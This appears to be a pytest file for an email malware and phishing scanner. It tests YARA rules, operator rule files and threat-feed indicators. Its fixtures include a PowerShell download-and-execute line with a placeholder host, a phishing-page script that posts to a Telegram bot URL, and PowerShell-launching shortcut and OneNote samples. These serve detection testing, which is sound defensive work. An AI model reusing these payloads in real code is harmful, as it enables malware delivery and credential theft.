"""YARA rules over files, ours and an operator's, and what threat intelligence knows."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.mail.letters import letter, with_file
from vedette.core.errors import BadInput
from vedette.mail.analysis import patterns
from vedette.mail.analysis.case import Knowledge, Known
from vedette.mail.authentication import read
from vedette.mail.message import parse
from vedette.mail.verdict import Decision, Verdict, judge

STOCK = {
    "script_fetches_and_runs": b"$w.DownloadString('http://a/b') | IEX",
    "shortcut_starts_an_interpreter": b"L\0\0\0" + b"\0" * 40 + "powershell".encode("utf-16-le"),
    "page_posts_a_password_by_script": b"<input type='password'><script>fetch('https://api.telegram.org/bot1/x')",
    "page_shows_the_victims_address": b"<script>var email = 'kari@norvik.example';</script>",
    "document_asks_to_enable_content": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"please enable content",
    "onenote_carries_a_program": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac")
    + b"powershell",
}


def _judged(data: bytes, knowledge: Knowledge) -> Verdict:
    message = parse(data)
    return judge(message, read(message), knowledge=knowledge)


@pytest.mark.parametrize("rule", STOCK)
def test_every_stock_rule_fires_on_its_behaviour_only(rule: str) -> None:
    assert rule in [hit.rule for hit in patterns.stock().hits(STOCK[rule])]
    assert patterns.stock().hits(b"Minutes of the meeting, password policy on page 2") == ()


def test_files_in_messages_are_matched_and_told() -> None:
    judged = _judged(with_file("run.txt", STOCK["script_fetches_and_runs"]), Knowledge())
    assert judged.decision is Decision.MALWARE
    assert any("fetches something" in reason for reason in judged.reasons)


def test_rules_of_an_operator(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(
        'rule lantern { meta: says = "our lantern" kind = "spam" points = "odd" strings: $a = "lantern" condition: $a }'
    )
    own = patterns.compiled((tmp_path,))
    found = _judged(with_file("a.txt", b"a lantern"), Knowledge(patterns=own)).findings
    assert ("yara-lantern", 3.0) in [(finding.code, finding.weight) for finding in found]
    folder = tmp_path / "data"
    assert patterns.installed(folder) is None
    (folder / "yara").mkdir(parents=True)
    (folder / "yara" / "own.yar").write_text((tmp_path / "own.yar").read_text())
    both = patterns.installed(folder)
    assert both is not None
    rules = {hit.rule for hit in both.hits(b"lantern " + STOCK["script_fetches_and_runs"])}
    assert rules == {"script_fetches_and_runs", "lantern"}
    (tmp_path / "bad.yar").write_text("rule x { condition: nothing }")
    with pytest.raises(BadInput, match=r"bad\.yar"):
        patterns.compiled((tmp_path,))


class _Store:
    """Indicators of an invented feed."""

    def url(self, url: str) -> Known | None:
        return Known("phish", "feed") if url.endswith("/lure") else None

    def domain(self, name: str) -> Known | None:
        return Known("spam", "feed", 0.5) if name == "bad.example" else None

    def address(self, ip: str) -> Known | None:
        return None

    def sender(self, address: str) -> Known | None:
        return None

    def file(self, sha256: str, data: bytes) -> Known | None:
        return Known("malware", "feed") if sha256.startswith("ba7816bf") else None


def test_indicators_weigh_by_threat_and_confidence() -> None:
    knowledge = Knowledge(_Store())
    assert _judged(with_file("a.bin", b"abc"), knowledge).decision is Decision.MALWARE
    lure = _judged(letter("see https://nord.example/lure"), knowledge)
    assert lure.threat == "Phish"
    spam = _judged(letter(sender="A <a@bad.example>"), knowledge)
    assert [(f.code, f.weight) for f in spam.findings if f.code.startswith("known")] == [("known-sender", 1.5)]
    assert _judged(letter(), knowledge).decision is Decision.CLEAN
